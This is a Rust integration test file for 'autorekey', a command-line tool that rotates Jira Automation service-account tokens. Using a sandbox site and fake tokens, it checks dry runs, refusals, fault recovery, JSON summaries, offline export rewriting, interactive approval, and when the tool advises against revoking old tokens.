      - Left alone "REL: Comment deploy result from pipeline": a hidden value came back masked as *** (at /components/0/value/headers/0/value); it may be this account's old token, which autorekey can neither read nor safely rewrite. Check it in the Automation UI (0190f3a2-5b7c-7d21-8e4f-a1b2c3d4e519)

    Old token [fp1] confirmed as svc-jira@acme.example's: it logs in as the account.

    Dry run: nothing was written.

    Next steps:
      1. Review the diffs above; only the credential text changes.
      2. Run the same command without --dry-run to write them (or with --out PLAN to save them for `autorekey apply`).
      3. Do NOT revoke the old token: nothing was written, every rule still uses it.
    Keep the old [fp1] and the new [fp2]; revoke nothing yet.
    "#);
    let expected = fx.expected();
    assert_eq!(
        summary_count(&out.stdout, "to rotate"),
        expected.rotated.len()
    );
    for uuid in expected.rotated_uuids() {
        assert!(
            out.stdout.contains(&format!("({uuid})\n--- ")),
            "a diff for {uuid}"
        );
    }
}

// ------------------------------------------------------------------ 3. refusals

#[test]
fn without_a_terminal_or_yes_nothing_is_asked_read_or_written() {
    let fx = FixtureRotation::start();
    let backups = fx.site.dir.path().join("backups");
    let out = run(&fx.site, fx.rotate(&backups, &[]));
    out.expect_code(2).expect_error_with_hint();
    assert!(out.stderr.contains("--yes") && out.stderr.contains("--dry-run"));
    assert!(out.stderr.contains("nothing was written"));
    assert_eq!(
        fx.site.stats().total_requests,
        0,
        "refused before any request"
    );
    assert!(!backups.exists());
    Expected::nothing(&fx.before).assert_site(&fx.site);
}

#[test]
fn a_new_token_the_site_refuses_is_tried_once_and_nothing_is_written() {
    let mut fx = FixtureRotation::start();
    let unknown = fake_token();
    fx.site.add_secret(unknown.clone());
    let backups = fx.site.dir.path().join("backups");
    let out = run(
        &fx.site,
        rotate_cmd(&fx.site, SVC_JIRA, &unknown, &backups, &["--yes"]),
    );
    out.expect_code(2).expect_error_with_hint();
    assert!(out.stderr.contains("nothing was written"));
    let stats = fx.site.stats();
    assert_eq!(stats.endpoint("PUT rule"), 0);
    assert_eq!(
        stats.endpoint("GET rule"),
        0,
        "no rule is read for a refused token"
    );
    let attempts = stats.myself(SVC_JIRA);
    assert_eq!(
        (attempts.ok, attempts.failed),
        (0, 1),
        "one /myself try, never retried"
    );
    assert!(!backups.exists());
    Expected::nothing(&fx.before).assert_site(&fx.site);
}

#[test]
fn lost_put_answers_are_read_back_and_nothing_is_written_twice() {
    let fx = FixtureRotation::start_with(|spec| {
        spec.with(|c| {
            c.lost_put_rate = 0.3;
            c.seed = 7;
        })
    });
    rotate_until_done(&fx, 4, false);
    let stats = fx.site.stats();
    assert!(stats.lost_puts > 0, "the fault was exercised");
    for uuid in fx.expected().rotated_uuids() {
        // A lost answer is followed by a read-back, not a blind second PUT.
        assert_eq!(stats.puts(&uuid), 1, "PUTs of {uuid}");
    }
}

#[test]
fn server_errors_and_dropped_connections_end_rotated_after_reruns() {
    let fx = FixtureRotation::start_with(|spec| {
        spec.with(|c| {
            c.error_rate = 0.1;
            c.drop_rate = 0.1;
            c.seed = 11;
        })
    });
    rotate_until_done(&fx, 6, false);
    assert!(
        fx.site.stats().faults_injected > 0,
        "the faults were exercised"
    );
}

#[test]
fn a_rate_limit_storm_is_waited_out() {
    // The limit named only in the 429s, as Jira does, so the first burst meets it.
    let fx = FixtureRotation::start_with(|spec| {
        spec.with(|c| {
            c.rate_limit_per_sec = Some(25.0);
            c.rate_limit_headers = autorekey::sandbox::RateLimitHeaders::On429;
        })
    });
    rotate_until_done(&fx, 3, true);
    assert!(fx.site.stats().rate_limited > 0, "the limit was hit");
}

#[test]
fn format_json_gives_scripts_the_summary_and_the_verdict_as_data() {
    let fx = FixtureRotation::start();
    let cases = SVC_JIRA_CASES.len();
    let backups = fx.site.dir.path().join("backups");
    let new = autorekey::secret::Token::new(fx.new_token.clone()).fingerprint();

    // A dry run: stdout is one JSON object, the diffs go to stderr.
    let dry = run(
        &fx.site,
        fx.rotate(&backups, &["--dry-run", "--format", "json"]),
    );
    dry.expect_code(0);
    let summary = dry.json();
    assert_eq!(summary["mode"], "dry_run");
    assert_eq!(
        summary["would_rotate"].as_array().map(Vec::len),
        Some(cases)
    );
    assert_eq!(summary["verdict"]["advice"], "not_written");
    assert_eq!(summary["verdict"]["revoke"], false);
    assert!(dry.stderr.contains("Basic <svc-jira@acme.example · "));
    // Quiet hides progress, never the diffs a person approves.
    let quiet = run(
        &fx.site,
        fx.rotate(&backups, &["--dry-run", "--format", "json", "-q"]),
    );
    quiet.expect_code(0);
    assert!(quiet.stderr.contains("Basic <svc-jira@acme.example · "));
    assert!(!quiet.stderr.contains("Reading rules"), "{}", quiet.stderr);

    // The writing run: the counts and each rule's outcome, typed, with its sentence.
    let out = run(
        &fx.site,
        fx.rotate(&backups, &["--yes", "--format", "json"]),
    );
    out.expect_code(3);
    let summary = out.json();
    assert_eq!(summary["mode"], "written");
    assert_eq!(summary["counts"]["rotated"], cases);
    assert_eq!(summary["counts"]["left_alone"], 3);
    let outcomes = summary["outcomes"].as_array().expect("outcomes");
    let masked = outcomes
        .iter()
        .find(|o| o["uuid"] == masked_on_read())
        .expect("the rule masked on read is listed");
    assert_eq!(masked["outcome"], "left_alone");
    assert!(masked["why"]["reason"].is_string(), "{masked}");
    assert!(masked["detail"].as_str().is_some_and(|d| d.contains("***")));
    assert_eq!(summary["verdict"]["advice"], "still_in_use");
    assert_eq!(summary["verdict"]["revoke"], false);
    let keep = summary["verdict"]["keep_fingerprints"]
        .as_array()
        .expect("keep");
    assert!(keep.contains(&Value::from(new.to_string())), "{keep:?}");
    assert!(keep.len() >= 2, "the old token is kept too: {keep:?}");
    let run_dir = only_run_dir(&backups);
    assert_eq!(summary["backup_dir"].as_str(), run_dir.to_str());

    // restore: the same, and the restored rules use the old token again.
    let dir = run_dir.to_str().expect("a UTF-8 path");
    let back = fx.site.run(&["restore", dir, "--yes", "--format", "json"]);
    back.expect_code(0);
    let summary = back.json();
    assert_eq!(summary["counts"]["restored"], cases);
    assert!(summary["safety_backup_dir"].is_string(), "{summary}");
    assert!(
        !back.stdout.contains("The versions replaced"),
        "stdout is JSON only"
    );
    assert_eq!(summary["verdict"]["advice"], "restored");
    assert_eq!(summary["verdict"]["revoke"], false);
}

/// Stdout on a full disk: the results are lost, which fails the run (exit 1, said with a
/// hint), but the failed write stops nothing between a rule's backup and its write: every
/// rule is rotated and journaled as if the output had gone through.
#[test]
fn a_full_disk_on_stdout_fails_the_rotation_but_stops_no_write() {
    let fx = FixtureRotation::start();
    let backups = fx.site.dir.path().join("backups");
    for format in ["text", "json"] {
        let mut cmd = common::std_command(&fx.rotate(&backups, &["--yes", "--format", format]));
        let dev_full = std::fs::OpenOptions::new().write(true).open("/dev/full");
        cmd.stdout(dev_full.expect("open /dev/full"));
        let out = common::checked(cmd.output().expect("run autorekey"), fx.site.secrets());
        out.expect_code(1).expect_error_with_hint();
        assert!(
            out.stderr.contains("the output could not be written"),
            "{}",
            out.stderr
        );
    }
    fx.expected().assert_site(&fx.site);
    for dir in run_dirs(&backups) {
        for (uuid, steps) in steps_by_rule(&journal_of(&dir)) {
            let last = steps.last().map(String::as_str);
            assert_ne!(
                last,
                Some("writing"),
                "{uuid}: a write left unfinished: {steps:?}"
            );
        }
    }
}

// ------------------------------------------------------------------ 6. interrupted

#[test]
fn ctrl_c_stops_cleanly_and_a_rerun_finishes() {
    let (planted, site) = copies_site(20, |c| c.latency = std::time::Duration::from_millis(60));
    let new_token = planted.fresh(SVC_JIRA_NEW_FIXTURE);
    let before = snapshot(&site);
    let expected = Expected::rotation(&before, SVC_JIRA, &new_token);
    assert_eq!(expected.rotated.len(), 20);
    let backups = site.dir.path().join("backups");

    let out = interrupted_after_first_write(&site, &new_token, &backups);
    out.expect_code(1).expect_error_with_hint();
    assert!(out.stderr.contains("interrupted"));
    assert!(out.stderr.contains("run the same command again"));
    let pending = expected.assert_rotated_or_untouched(&site);
    let done = 20 - pending.len();
    assert!(
        done >= 1,
        "the rule in flight when Ctrl-C came was finished"
    );
    assert_eq!(summary_count(&out.stdout, "rotated"), done);
    assert_eq!(summary_count(&out.stdout, "not attempted"), pending.len());
    let first_run = only_run_dir(&backups);
    let entries = journal_of(&first_run);
    assert!(
        journal::unfinished(&entries).is_empty(),
        "every write has its outcome"
    );
    let steps = steps_by_rule(&entries);
    assert_eq!(steps.len(), done, "only the rules written are journalled");
    assert!(steps.values().all(|s| s == &["writing", "verified"]));

    let rerun = run(
        &site,
        rotate_cmd(&site, SVC_JIRA, &new_token, &backups, &["--yes"]),
    );
    rerun.expect_code(0);
    assert_eq!(summary_count(&rerun.stdout, "already current"), done);
    assert_eq!(summary_count(&rerun.stdout, "rotated"), pending.len());
    expected.assert_site(&site);
    for uuid in expected.rotated_uuids() {
        assert_eq!(
            site.stats().puts(&uuid),
            1,
            "{uuid} written once over both runs"
        );
    }
    for dir in run_dirs(&backups) {
        assert!(journal::unfinished(&journal_of(&dir)).is_empty());
    }
}

// ------------------------------------------------------------------ 7. offline export

#[test]
fn offline_export_rotation_changes_only_credential_text() {
    let export_path = common::fixtures_dir().join("export/ui-export.json");
    let export: Value =
        serde_json::from_str(&std::fs::read_to_string(export_path).expect("read the export"))
            .expect("the export is JSON");
    // Planted treats the whole export as one value: every fixture secret in it is swapped.
    let planted = common::Planted::new(vec![export]);
    let export = planted.rules[0].clone();
    let new_token = fake_token();
    let mut secrets = planted.secrets();
    secrets.push(new_token.clone());
    let dir = tempfile::tempdir().expect("a temp dir");
    let input = dir.path().join("export.json");
    let input_text = serde_json::to_string_pretty(&export).expect("serialize");
    std::fs::write(&input, &input_text).expect("write the export");
    let output = dir.path().join("rotated.json");

    let offline = |target: &Path| {
        let mut cmd = common::autorekey();
        cmd.env("AUTOREKEY_NEW_TOKEN", &new_token)
            .env("AUTOREKEY_OLD_TOKEN", planted.fresh(SVC_JIRA_OLD_FIXTURE))
            .args(["rotate", "--account", SVC_JIRA, "--yes", "--from-file"])
            .arg(&input)
            .arg("--write")
            .arg(target);
        common::run_checked(cmd, &secrets)
    };
    let out = offline(&output);
    // The hidden header exported as "" is masked: that rule is left alone.
    out.expect_code(3);
    assert_eq!(summary_count(&out.stdout, "rotated"), 1);
    assert_eq!(summary_count(&out.stdout, "left alone"), 1);
    // Said as the file has it: "", not the site's ***.
    assert!(
        out.stdout
            .contains("is empty (\"\"), as an export writes a hidden value"),
        "{}",
        out.stdout
    );
    assert!(!out.stdout.contains("***"), "{}", out.stdout);
    assert_eq!(
        std::fs::read_to_string(&input).expect("re-read"),
        input_text,
        "input untouched"
    );
    {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = std::fs::metadata(&output)
            .expect("stat")
            .permissions()
            .mode()
            & 0o777;
        assert_eq!(mode, 0o600);
    }
    let rotated: Value =
        serde_json::from_str(&std::fs::read_to_string(&output).expect("read")).expect("JSON");
    // The output is the export holding only the rotated rules (importing the others again
    // would duplicate them), each with only the credential rewritten.
    let mut wanted = export.clone();
    let token = autorekey::secret::Token::new(new_token.clone());
    let rules = wanted["rules"].as_array_mut().expect("rules");
    let kept: Vec<Value> = rules
        .iter()
        .filter_map(|rule| rewrite_for(rule, SVC_JIRA, &token))
        .collect();
    assert_eq!(kept.len(), 1);
    *rules = kept;
    assert_eq!(
        all_differences(&wanted, &rotated),
        Vec::<String>::new(),
        "the output is the export's rotated rules, with only the credential rewritten"
    );

    // An existing --write target is never replaced.
    let existing = dir.path().join("existing.json");
    std::fs::write(&existing, "keep me").expect("write");
    let refused = offline(&existing);
    refused.expect_code(2).expect_error_with_hint();
    assert_eq!(std::fs::read_to_string(&existing).expect("read"), "keep me");
}

// ------------------------------------------------------------------ --fingerprint

#[test]
fn fingerprint_selects_which_old_tokens_are_rotated() {
    let fx = FixtureRotation::start();
    let backups = fx.site.dir.path().join("backups");
    let bad = run(
        &fx.site,
        fx.rotate(&backups, &["--yes", "--fingerprint", "not-hex"]),
    );
    bad.expect_code(2).expect_error_with_hint();
    assert_eq!(fx.site.stats().total_requests, 0);

    // A token no rule holds: said so (never "nothing left to do"), nothing written.
    let other = autorekey::secret::Fingerprint::of(&fake_token()).to_string();
    let none = run(
        &fx.site,
        fx.rotate(&backups, &["--yes", "--fingerprint", &other]),
    );
    none.expect_code(2).expect_error_with_hint();
    assert!(none
        .stderr
        .contains("no credential of svc-jira@acme.example has the fingerprint"));
    assert!(!none.stdout.contains("Nothing left to do"));
    assert!(!none.stdout.contains("revoke the old"));
    assert_eq!(puts(&fx.site), 0);
    assert!(run_dirs(&backups).is_empty(), "no backup directory");
    Expected::read_only(&fx.before).assert_site(&fx.site);

    // The old token's fingerprints as scan shows them: everything of it. The fixture
    // token is not Atlassian-shaped, so the places that do not send it to the site (a
    // variable, a relay's body) show its keyed form.
    let fresh = fx.planted.fresh(SVC_JIRA_OLD_FIXTURE);
    let old = autorekey::secret::Fingerprint::of(&fresh);
    let prefix = &old.as_str()[..6];
    let keyed = common::keyed_fingerprint(&fresh);
    let all = run(
        &fx.site,
        fx.rotate(
            &backups,
            &[
                "--yes",
                "--fingerprint",
                prefix,
                "--fingerprint",
                keyed.as_str(),
            ],
        ),
    );
    all.expect_code(3);
    fx.expected().assert_site(&fx.site);
}

#[test]
fn offline_rotation_reads_a_bare_rule_object_with_a_bom() {
    use base64::Engine as _;
    let b64 = |user: &str, token: &str| {
        base64::engine::general_purpose::STANDARD.encode(format!("{user}:{token}"))
    };
    let (old, new_token) = (fake_token(), fake_token());
    let rule = serde_json::json!({"name": "bare", "trigger": {"type": "jira.manual.trigger.issue"},
        "components": [{"id": "2", "type": "jira.issue.outgoing.webhook",
            "value": {"url": "{{baseUrl}}/rest/api/3/issue", "headers": [
                {"name": "Authorization", "value": format!("Basic {}", b64(SVC_JIRA, &old))}]}}]});
    let dir = tempfile::tempdir().expect("a temp dir");
    let input = dir.path().join("bare.JSON");
    std::fs::write(&input, format!("\u{FEFF}{rule}")).expect("write");
    let output = dir.path().join("rotated.json");
    let mut cmd = common::autorekey();
    cmd.env("AUTOREKEY_NEW_TOKEN", &new_token)
        .env("AUTOREKEY_OLD_TOKEN", &old)
        .args(["rotate", "--account", SVC_JIRA, "--yes", "--from-file"])
        .arg(&input)
        .arg("--write")
        .arg(&output);
    let out = common::run_checked(cmd, &[old.clone(), new_token.clone()]);
    out.expect_code(0);
    assert_eq!(summary_count(&out.stdout, "rotated"), 1);
    // The rule has no id: its heading names it without an empty `()`.
    assert!(out.stdout.contains("Rule \"bare\"\n"), "{}", out.stdout);
    assert!(!out.stdout.contains("()"), "{}", out.stdout);
    let rotated: Value =
        serde_json::from_str(&std::fs::read_to_string(&output).expect("read")).expect("JSON");
    assert_eq!(
        rotated["components"][0]["value"]["headers"][0]["value"],
        format!("Basic {}", b64(SVC_JIRA, &new_token))
    );
}

/// A site where svc@hidden.example's old token (ATATT3-shaped, made now) sits in two Basic
/// headers and, raw, in a third rule's comment: the raw copy must hold back "revoke".
#[test]
fn a_raw_copy_of_the_old_token_elsewhere_holds_back_the_revoke_advice() {
    use autorekey::sandbox::{Account, SandboxConfig};
    use autorekey::secret::{Credential, Token};
    use serde_json::json;
    let atatt = || {
        format!(
            "ATATT3{}{}=0A1B2C3D",
            uuid::Uuid::new_v4().simple(),
            uuid::Uuid::new_v4().simple()
        )
    };
    let (user, old, new, admin) = ("svc@hidden.example", atatt(), atatt(), fake_token());
    let basic = Credential::new(user, Token::new(old.clone())).basic_value();
    let envelope = |n: u32, component: Value| {
        json!({"rule": {"uuid": format!("0190f3a2-0000-7000-8000-00000000000{n}"),
            "name": format!("rule {n}"), "state": "ENABLED",
            "trigger": {"id": "t", "component": "TRIGGER", "type": "jira.manual.trigger.issue", "value": {}},
            "components": [component]}, "connections": []})
    };
    let web = json!({"id": "2", "component": "ACTION", "type": "jira.issue.outgoing.webhook",
        "value": {"url": "{{baseUrl}}/rest/api/3/issue", "method": "POST",
            "headers": [{"name": "Authorization", "value": format!("Basic {basic}")}]}});
    let comment = json!({"id": "3", "component": "ACTION", "type": "jira.issue.comment",
        "value": {"comment": format!("curl -H 'X-Token: {old}' ...")}});
    let account = |email: &str, admin: bool, tokens: Vec<String>| Account {
        email: email.into(),
        account_id: format!("712020:{email}"),
        admin,
        tokens: tokens.into_iter().map(Token::new).collect(),
        revoked_tokens: vec![],
    };
    let site = common::SiteSpec {
        config: SandboxConfig {
            rules: vec![
                envelope(1, web.clone()),
                envelope(2, web),
                envelope(3, comment),
            ],
            accounts: vec![
                account("admin@hidden.example", true, vec![admin.clone()]),
                account(user, false, vec![old.clone(), new.clone()]),
            ],
            ..SandboxConfig::default()
        },
        login: "admin@hidden.example".into(),
        admin_token: admin.clone(),
        secrets: vec![old.clone(), new.clone(), admin],
    }
    .start();
    let backups = site.dir.path().join("backups");
    let out = run(&site, rotate_cmd(&site, user, &new, &backups, &["--yes"]));
    out.expect_code(3);
    insta::assert_snapshot!(normalized(&out.stdout), @r#"
    Rule "rule 1" (0190f3a2-0000-7000-8000-000000000001)
    --- rule 1 (as read)
    +++ rule 1 (rotated)
    @@ -19,5 +19,6 @@
               {
                 "name": "Authorization",
    -            "value": "Basic <svc@hidden.example · [fp1]>"
    +            "value": "Basic <svc@hidden.example · [fp2]>",
    +            "headerSecure": true
               }
             ]

    Rule "rule 2" (0190f3a2-0000-7000-8000-000000000002)
    --- rule 2 (as read)
    +++ rule 2 (rotated)
    @@ -19,5 +19,6 @@
               {
                 "name": "Authorization",
    -            "value": "Basic <svc@hidden.example · [fp1]>"
    +            "value": "Basic <svc@hidden.example · [fp2]>",
    +            "headerSecure": true
               }
             ]

    Summary for svc@hidden.example (old [fp1] → new [fp2]); 3 rules read:
      rotated          2
      left alone       1
      - Left alone "rule 3": the old token also appears in a form autorekey does not rewrite (at /components/0/value/comment ([fp1])): rewriting only the rest would leave the rule half rotated. Edit it by hand (0190f3a2-0000-7000-8000-000000000003)

    Old token [fp1] confirmed as svc@hidden.example's: it logs in as the account.

    Backups (mode 0600, they hold the old tokens): [tmp]/backups/127.0.0.1-[stamp]
    Journal: [tmp]/backups/127.0.0.1-[stamp]/journal.jsonl
    Undo with: autorekey restore [tmp]/backups/127.0.0.1-[stamp]

    Next steps:
      - Do NOT revoke the old token yet: 1 rule listed above may still use it.
      - Rules left alone or to check: autorekey cannot rewrite them safely; edit them in the Automation UI as each line says.
      - Then `autorekey scan --account svc@hidden.example` shows what still uses an old token.
    Keep the old [fp1] and the new [fp2]; revoke nothing yet.
    "#);
    let comment_now = site
        .state()
        .rule("0190f3a2-0000-7000-8000-000000000003")
        .unwrap();
    assert!(
        comment_now.to_string().contains(&old),
        "the raw copy is never rewritten"
    );

    // What the summary then says to run shows the raw copy, though it names no user, beside
    // the rotated rules.
    let scan = site.run(&["scan", "--account", user, "--format", "json"]);
    scan.expect_code(0);
    let report = scan.json();
    let rows: Vec<(&str, &str)> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["rule_name"].as_str().unwrap(),
                r["scheme"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        rows,
        [
            ("rule 1", "basic"),
            ("rule 2", "basic"),
            ("rule 3", "token")
        ],
        "{report}"
    );
    assert_eq!(report["summary"]["rules_with_credentials"], 3);
}

#[test]
fn listings_that_skip_the_same_rule_at_one_page_size_are_read_again_at_another() {
    // 150 copies of a svc-jira rule (all enabled). At 100 a page both GET and the search
    // skip copy #101 and agree: that agreement is no evidence. The search read again at
    // other page sizes shows it; it is rotated, and two reads at different sizes agree.
    let (planted, site) = copies_site(150, |c| c.list_skip_at = Some(100));
    let new_token = planted.fresh(SVC_JIRA_NEW_FIXTURE);
    let backups = site.dir.path().join("backups");
    let out = run(
        &site,
        rotate_cmd(&site, SVC_JIRA, &new_token, &backups, &["-v", "--yes"]),
    );
    out.expect_code(0);
    assert_eq!(summary_count(&out.stdout, "rotated"), 150, "{}", out.stdout);
    assert!(
        out.stdout.contains("revoke the old token ("),
        "{}",
        out.stdout
    );
    assert!(
        out.stderr.contains("confirmed by 2 reads of the search"),
        "{}",
        out.stderr
    );
}

#[test]
fn a_rotation_over_a_drifting_rule_list_never_says_revoke() {
    // 150 copies of a svc-jira rule (all enabled); both listings skip the first rule of
    // their second page at any page size: GET and the search drift the same way at 100 a
    // page and agree, and every re-read at another size misses another copy.
    let (planted, site) = copies_site(150, |c| c.list_skip_at = Some(0));
    let new_token = planted.fresh(SVC_JIRA_NEW_FIXTURE);
    let backups = site.dir.path().join("backups");

    // A plan saved over that list carries it: `apply` gives the same advice later.
    let plan = site.dir.path().join("plan.json");
    let out = run(
        &site,
        rotate_cmd(
            &site,
            SVC_JIRA,
            &new_token,
            &backups,
            &["--out", plan.to_str().unwrap()],
        ),
    );
    out.expect_code(0);
    assert!(std::fs::read_to_string(&plan)
        .unwrap()
        .contains("\"list_complete\": false"));
    let mut apply = site.cmd();
    apply
        .env("AUTOREKEY_NEW_TOKEN", &new_token)
        .args(["apply", plan.to_str().unwrap(), "--yes", "--backup-dir"])
        .arg(&backups);
    let applied = run(&site, apply);
    applied.expect_code(3);
    assert_eq!(summary_count(&applied.stdout, "rotated"), 150);
    assert!(
        applied.stdout.contains("could not be confirmed complete"),
        "{}",
        applied.stdout
    );
    assert!(
        !applied.stdout.contains("revoke the old token ("),
        "{}",
        applied.stdout
    );
    let out = run(
        &site,
        rotate_cmd(&site, SVC_JIRA, &new_token, &backups, &["--yes"]),
    );
    out.expect_code(3);
    // The re-reads showed the skipped rules: every copy was rotated all the same, and a
    // rotation afterwards, over the same drifting list, still does not say revoke.
    assert_eq!(summary_count(&out.stdout, "already current"), 150);
    assert!(
        out.stderr
            .contains("two rule listings agreed, but a read at another page size")
            && out.stderr.contains("read again 3 times"),
        "{}",
        out.stderr
    );
    assert!(
        out.stdout.contains("Do NOT revoke")
            && out.stdout.contains("could not be confirmed complete"),
        "{}",
        out.stdout
    );
    assert!(
        !out.stdout.contains("revoke the old token ("),
        "{}",
        out.stdout
    );
}

/// A site whose rules (each one component) are `components`, with `user`'s `old` and `new`
/// tokens and an admin.
fn one_account_site(user: &str, old: &str, new: &str, components: Vec<Value>) -> TestSite {
    use autorekey::sandbox::{Account, SandboxConfig};
    use autorekey::secret::Token;
    use serde_json::json;
    let admin = fake_token();
    let rules = components
        .into_iter()
        .enumerate()
        .map(|(n, component)| {
            json!({"rule": {"uuid": format!("0190f3a2-0000-7000-8000-0000000001{n:02}"),
                "name": format!("pasted {n}"), "state": "ENABLED",
                "trigger": {"id": "t", "component": "TRIGGER",
                    "type": "jira.manual.trigger.issue", "value": {}},
                "components": [component]}, "connections": []})
        })
        .collect();
    let account = |email: &str, admin: bool, tokens: Vec<&str>| Account {
        email: email.into(),
        account_id: format!("712020:{email}"),
        admin,
        tokens: tokens.into_iter().map(Token::new).collect(),
        revoked_tokens: vec![],
    };
    common::SiteSpec {
        config: SandboxConfig {
            rules,
            accounts: vec![
                account("admin@pasted.example", true, vec![admin.as_str()]),
                account(user, false, vec![old, new]),
            ],
            ..SandboxConfig::default()
        },
        login: "admin@pasted.example".into(),
        admin_token: admin.clone(),
        secrets: vec![old.to_string(), new.to_string(), admin],
    }
    .start()
}

/// `rotate --yes --format json` of `user` to `new`, which must exit with `code`: its summary.
fn rotate_json(site: &TestSite, user: &str, new: &str, code: i32) -> Value {
    let backups = site.dir.path().join("backups");
    let out = run(
        site,
        rotate_cmd(site, user, new, &backups, &["--yes", "--format", "json"]),
    );
    out.expect_code(code);
    out.json()
}

/// A web request to `url` with an `Authorization` header and a body.
fn web_request_action(url: &str, header: &str, body: &str) -> Value {
    serde_json::json!({"id": "2", "component": "ACTION", "type": "jira.issue.outgoing.webhook",
        "value": {"url": url, "method": "POST", "contentType": "custom", "customBody": body,
            "headers": [{"name": "Authorization", "value": header}]}})
}

#[test]
fn a_basic_value_pasted_from_a_terminal_or_escaped_in_a_relay_body_is_rotated_before_any_revoke() {
    use autorekey::secret::{Credential, Token};
    let user = "svc@pasted.example";
    // Long enough for `base64` to wrap, as it wraps every ATATT3 token.
    let token = || format!("{}{}", fake_token(), uuid::Uuid::new_v4().simple());
    let (old, new) = (token(), token());
    let basic = |t: &str| Credential::new(user, Token::new(t)).basic_value();
    let echoed = common::echoed_basic(user, &old);
    assert!(echoed.contains('\n'), "wrapped");
    let escaped: String = format!("Basic {}", basic(&old))
        .chars()
        .enumerate()
        .map(|(i, c)| match i % 9 {
            0 => format!("\\u{:04X}", u32::from(c)),
            _ => c.to_string(),
        })
        .collect();
    let site = one_account_site(
        user,
        &old,
        &new,
        vec![
            web_request_action(
                "{{baseUrl}}/rest/api/3/issue",
                &format!("Basic {}", basic(&old)),
                "",
            ),
            // `echo "email:token" | base64`, pasted with the output's last line end.
            web_request_action(
                "{{baseUrl}}/rest/api/3/issue",
                &format!("Basic {echoed}\n"),
                "",
            ),
            web_request_action(
                "https://relay.example.org/form",
                "",
                &format!(
                    "authorization=Basic%20{}&x=1",
                    common::form_encoded(&basic(&old))
                ),
            ),
            web_request_action(
                "https://relay.example.org/json",
                "",
                &format!("{{\"headers\": {{\"Authorization\": \"{escaped}\"}}}}"),
            ),
        ],
    );
    let summary = rotate_json(&site, user, &new, 0);
    assert_eq!(summary["counts"]["rotated"], 4, "{summary}");
    assert_eq!(summary["verdict"]["advice"], "revoke", "{summary}");

    // Each new value is where the old one was, in the form the rule needs.
    let rule = |n: usize| {
        site.state()
            .rule(&format!("0190f3a2-0000-7000-8000-0000000001{n:02}"))
            .unwrap()["rule"]["components"][0]["value"]
            .clone()
    };
    let new_basic = basic(&new);
    assert_eq!(
        rule(1)["headers"][0]["value"],
        format!("Basic {new_basic}\n")
    );
    assert_eq!(
        rule(2)["customBody"],
        format!(
            "authorization=Basic%20{}&x=1",
            common::form_encoded(&new_basic)
        )
    );
    let body = rule(3)["customBody"].as_str().unwrap().to_string();
    assert!(body.ends_with(&format!("{new_basic}\"}}}}")), "{body}");
    let all: String = (0..4).map(|n| rule(n).to_string()).collect();
    for form in [old.clone(), basic(&old)] {
        assert!(!all.contains(&form), "an old value is left on the site");
    }
}

#[test]
fn a_basic_value_sent_to_atlassian_that_names_no_account_holds_back_the_revoke_advice() {
    use autorekey::secret::{Credential, Token};
    let user = "svc@pasted.example";
    let (old, new) = (fake_token(), fake_token());
    let basic = |u: &str, t: &str| Credential::new(u, Token::new(t)).basic_value();
    let b64 = basic(user, &old);
    let site = one_account_site(
        user,
        &old,
        &new,
        vec![
            web_request_action("{{baseUrl}}/rest/api/3/issue", &format!("Basic {b64}"), ""),
            // Not base64 any decoder agrees on: whose token it holds cannot be known.
            web_request_action(
                "{{baseUrl}}/rest/api/3/issue",
                &format!("Basic {}.{}", &b64[..8], &b64[8..]),
                "",
            ),
        ],
    );
    let summary = rotate_json(&site, user, &new, 3);
    assert_eq!(summary["counts"]["rotated"], 1, "{summary}");
    assert_eq!(summary["verdict"]["advice"], "not_inspectable", "{summary}");
    assert_eq!(summary["verdict"]["revoke"], false, "{summary}");
    // What the summary says to run next shows it, beside the account's own credential.
    let scan = site.run(&["scan", "--account", user, "--format", "json"]);
    scan.expect_code(0);
    let rows: Vec<(String, Value)> = scan.json()["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["rule_name"].as_str().unwrap().to_string(),
                r["email"].clone(),
            )
        })
        .collect();
    assert_eq!(
        rows,
        [
            ("pasted 0".to_string(), Value::from(user)),
            ("pasted 1".to_string(), Value::Null)
        ]
    );
}

#[test]
fn a_person_approves_one_rule_declines_one_and_quits() {
    let desk = Desk::new(4);
    let by_name = &desk.by_name;
    let mut screen = desk.first_rule_rotated();
    screen.answer(&question(&by_name[1].0), "n");
    screen.answer(&question(&by_name[2].0), "q");
    let (code, transcript) = screen.finish();

    assert_eq!(code, 3, "quit leaves rules not attempted:\n{transcript}");
    let summary = desk.only_the_first_rotated(&transcript);
    assert_eq!(summary_count(&transcript, "declined"), 1);
    assert_eq!(summary_count(&transcript, "not attempted"), 2);
    assert!(summary.contains(&format!("Skipped \"{}\" (you said no)", by_name[1].0)));
    for (name, _) in &by_name[2..] {
        assert!(summary.contains(&format!("Not attempted \"{name}\": you quit")));
    }
    let steps = steps_by_rule(&journal_of(&only_run_dir(&desk.backups)));
    assert_eq!(steps[&by_name[0].1], ["writing", "verified"]);
    assert_eq!(steps[&by_name[1].1], ["declined"]);
    assert!(!steps.contains_key(&by_name[2].1) && !steps.contains_key(&by_name[3].1));
    // A quit is a stop too: `backups` must not call the run finished.
    let (runs, table) = backups(&desk);
    assert_eq!(runs[0]["state"], "interrupted", "{runs:?}");
    assert_eq!(runs[0]["not_attempted"], 2, "{runs:?}");
    assert!(table.contains("interrupted (2 not attempted)"), "{table}");
}

/// A group's question lists its rules (`l`) and shows their diffs (`d`) on request, then
/// asks again; `n` declines the whole group, and nothing is written (exit 3).
#[test]
fn a_group_lists_its_rules_and_shows_their_diffs_then_no_declines_it() {
    let desk = Desk::new(3);
    let mut screen = desk.group_asked();
    screen.session.send_line("l").expect("type on the pty");
    for (name, uuid) in &desk.by_name {
        screen.expect(&format!("  - \"{name}\" ({uuid})"));
    }
    screen.answer(GROUP_ANSWERS, "d");
    for (name, uuid) in &desk.by_name {
        screen.expect(&format!("Rule \"{name}\" ({uuid})"));
    }
    screen.answer(GROUP_ANSWERS, "n");
    let (code, transcript) = screen.finish();

    assert_no_secrets(&transcript, desk.site.secrets());
    assert_eq!(code, 3, "declined rules need you:\n{transcript}");
    assert_eq!(puts(&desk.site), 0, "nothing was written");
    assert_eq!(summary_count(&transcript, "declined"), 3);
    assert_eq!(
        transcript.matches(&group_question(3)).count(),
        3,
        "asked again after the list and the diffs:\n{transcript}"
    );
    for (name, _) in &desk.by_name {
        assert!(!transcript.contains(&question(name)), "{transcript}");
    }
}

